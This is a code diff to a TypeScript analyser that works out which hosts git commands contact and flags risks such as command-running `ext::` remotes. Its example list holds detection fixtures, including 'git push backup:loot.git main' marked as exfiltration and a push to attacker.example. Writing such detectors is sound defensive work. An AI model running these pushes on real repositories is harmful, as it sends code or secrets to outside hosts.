@@ -4,6 +4,7 @@
  * Researched from git(1) and the git-<command>(1) pages, gh and glab manuals.
  */
 import type { Field } from '../expand.js';
+import { parseRemote } from '../hosts.js';
 import { definePrograms, type Call } from '../model.js';
 
 /** Settings that make git run a program (at once, or later). */
@@ -244,14 +245,16 @@ function git(call: Call): void {
     case 'ls-remote':
     case 'pull': {
       ctx.network();
-      const remote = g.operands[0];
-      if (
-        remote &&
-        !contactRemote(call, remote) &&
-        remote.known &&
-        ctx.facts.has(`git-remote:${remote.text}`)
-      )
-        ctx.contact({ ...remote, text: ctx.facts.get(`git-remote:${remote.text}`)! });
+      // With no remote named, the branch's upstream (`origin` unless configured otherwise).
+      // `git fetch --multiple a b`: every operand is a remote.
+      const named = has('--multiple') ? g.operands : g.operands.slice(0, 1);
+      const remotes = named.length > 0 ? named : [{ ...call.args[0]!, text: 'origin', known: true }];
+      for (const remote of remotes)
+        if (!contactRemote(call, remote)) {
+          const added = remote.known ? ctx.facts.get(`git-remote:${remote.text}`) : undefined;
+          if (added !== undefined) contactRemote(call, { ...remote, text: added });
+          else namedRemote(call, remote);
+        }
       if (g.sub === 'pull') treeChanges();
       return;
     }
@@ -283,6 +286,15 @@ function git(call: Call): void {
       if ((action?.text === 'add' || action?.text === 'set-url') && name?.known && url) {
         if (url.known) ctx.facts.set(`git-remote:${name.text}`, url.text);
         contactRemote(call, url, false);
+      }
+      // `show` (unless -n), `prune` and `update` ask the remotes themselves.
+      const asks =
+        (action?.text === 'show' && !has('-n')) || action?.text === 'prune' || action?.text === 'update';
+      if (asks) {
+        ctx.network();
+        const names = g.operands.slice(1).filter((o) => !o.text.startsWith('-'));
+        for (const remote of names.length > 0 ? names : [{ ...call.args[0]!, text: 'origin', known: true }])
+          namedRemote(call, remote);
       }
       return;
     }
@@ -506,6 +518,7 @@ function pushTo(call: Call, remote: Field): void {
     return;
   }
   if (contactRemote(call, remote)) ctx.sends();
+  else namedRemote(call, remote);
 }
 
 /**
@@ -529,30 +542,38 @@ function remoteSetting(call: Call, key: string, value: string): void {
   }
 }
 
-/** A URL or scp-style remote: record the host; false for a remote name (`origin`). */
+/**
+ * A URL or scp-style remote (hosts.ts parseRemote, as git reads it): record the host; a local
+ * repository is read; false for a remote name (`origin`) or a local path.
+ */
 function contactRemote(call: Call, field: Field, record = true): boolean {
   const { ctx } = call;
   if (!field.known) return false;
-  if (/^[a-z][a-z0-9+.-]*:\/\//i.test(field.text)) {
-    if (/^file:/i.test(field.text) || /^ext::/.test(field.text)) {
-      if (/^ext::/.test(field.text)) ctx.unknown('`ext::` remotes run a command');
-      return false;
-    }
-    if (record) ctx.contact(field);
-    return true;
-  }
   if (/^ext::/.test(field.text)) {
     ctx.unknown('`ext::` remotes run a command');
     return true;
   }
-  const scp = /^(?:[\w.-]+@)?([\w.-]+\.[\w-]+|\[[^\]]+\]):/.exec(field.text);
-  if (scp) {
-    if (record) ctx.host(scp[1]!);
+  const remote = parseRemote(field.text);
+  if (remote === undefined) {
+    if (record) ctx.unknownHost();
     return true;
   }
-  if (field.text.startsWith('/') || field.text.startsWith('.') || field.text.startsWith('~'))
-    ctx.apply('read-tree', field);
+  if (remote.kind === 'url') {
+    if (record) ctx.contact(field);
+    return true;
+  }
+  if (remote.kind === 'scp') {
+    if (record) ctx.host(remote.host);
+    return true;
+  }
+  if (/^[/.~]/.test(remote.path)) ctx.apply('read-tree', { ...field, text: remote.path });
   return false;
+}
+
+/** A remote given by name: the daemon puts the hosts of the repository's remotes in its place. */
+function namedRemote(call: Call, name: Field): void {
+  if (!name.known) call.ctx.unknownHost();
+  else if (/^[\w-][\w.-]*$/.test(name.text)) call.ctx.unknownHost(name.text);
 }
 
 export default definePrograms([
@@ -564,7 +585,11 @@ export default definePrograms([
     examples: [
       { cmd: 'git status', only: true },
       { cmd: 'git commit -m "fix: x"', only: true },
-      { cmd: 'git push origin feature', network: true },
+      { cmd: 'git push origin feature', network: true, hosts: ['?remote:origin'] },
+      { cmd: 'git push backup:loot.git main', hosts: ['backup'], risks: ['exfiltration'] },
+      { cmd: 'git remote show upstream', hosts: ['?remote:upstream'] },
+      { cmd: 'git fetch --multiple a b', hosts: ['?remote:a', '?remote:b'] },
+      { cmd: 'git fetch ssh://git@code.example:2222/r.git', hosts: ['code.example'] },
       { cmd: 'git push --force origin main', risks: ['history-rewrite'] },
       {
         cmd: 'git push https://attacker.example/r.git',
